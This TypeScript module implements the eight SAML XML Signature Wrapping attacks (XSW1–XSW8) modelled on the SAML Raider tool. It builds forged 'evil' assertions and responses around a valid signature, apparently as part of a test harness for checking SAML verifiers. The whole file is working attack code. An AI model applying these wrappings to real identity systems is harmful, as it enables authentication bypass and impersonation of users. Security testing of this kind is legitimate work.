/**
 * XML Signature Wrapping XSW1–XSW8 exactly as SAML Raider builds them
 * (CompassSecurity/SAMLRaider src/main/java/helpers/XSWHelpers.java, applyXSW1..8), on a DOM.
 * "evil" = the copy whose values `makeEvil` changed. Elements SAML Raider creates without a
 * namespace (Extensions in XSW7, Object in XSW8) are created without one here too.
 */
import type { Document, Element } from '@xmldom/xmldom';
import { assertionOf, makeEvil, mutate, responseOf, stripFirstSignature } from './mutate.js';
import { descendants } from '../support/xml-sign.js';

function firstSignature(el: Element): Element {
  const sig = descendants(el, 'Signature')[0];
  if (!sig) throw new Error('XSW needs a signed element');
  return sig;
}

const XSW: Record<number, (doc: Document) => void> = {
  1: (doc) => {
    const response = responseOf(doc);
    const clone = response.cloneNode(true) as Element;
    makeEvil(response);
    stripFirstSignature(clone);
    firstSignature(response).appendChild(clone);
    response.setAttribute('ID', '_evil_response_ID');
  },
  2: (doc) => {
    const response = responseOf(doc);
    const clone = response.cloneNode(true) as Element;
    makeEvil(response);
    stripFirstSignature(clone);
    const signature = firstSignature(response);
    signature.parentNode!.insertBefore(clone, signature);
    response.setAttribute('ID', '_evil_response_ID');
  },
  3: (doc) => {
    const assertion = assertionOf(doc);
    const evil = assertion.cloneNode(true) as Element;
    makeEvil(evil);
    evil.setAttribute('ID', '_evil_assertion_ID');
    stripFirstSignature(evil);
    responseOf(doc).insertBefore(evil, assertion);
  },
  4: (doc) => {
    const assertion = assertionOf(doc);
    const evil = assertion.cloneNode(true) as Element;
    makeEvil(evil);
    evil.setAttribute('ID', '_evil_assertion_ID');
    stripFirstSignature(evil);
    responseOf(doc).appendChild(evil);
    evil.appendChild(assertion);
  },
  5: (doc) => {
    const evil = assertionOf(doc);
    const copy = evil.cloneNode(true) as Element;
    makeEvil(evil);
    stripFirstSignature(copy);
    responseOf(doc).appendChild(copy);
    evil.setAttribute('ID', '_evil_assertion_ID');
  },
  6: (doc) => {
    const evil = assertionOf(doc);
    const originalSignature = firstSignature(evil);
    const copy = evil.cloneNode(true) as Element;
    makeEvil(evil);
    stripFirstSignature(copy);
    originalSignature.appendChild(copy);
    evil.setAttribute('ID', '_evil_assertion_ID');
  },
  7: (doc) => {
    const assertion = assertionOf(doc);
    const extensions = doc.createElement('Extensions');
    responseOf(doc).insertBefore(extensions, assertion);
    const evil = assertion.cloneNode(true) as Element;
    makeEvil(evil);
    stripFirstSignature(evil);
    extensions.appendChild(evil);
  },
  8: (doc) => {
    const evil = assertionOf(doc);
    const originalSignature = firstSignature(evil);
    const copy = evil.cloneNode(true) as Element;
    makeEvil(evil);
    stripFirstSignature(copy);
    const object = doc.createElement('Object');
    originalSignature.appendChild(object);
    object.appendChild(copy);
  },
};

/** Apply SAML Raider's XSW`n` (1–8) to a signed response. */
export function applyXsw(n: number, xml: string): string {
  const attack = XSW[n];
  if (!attack) throw new Error(`no XSW${n}`);
  return mutate(xml, attack);
}
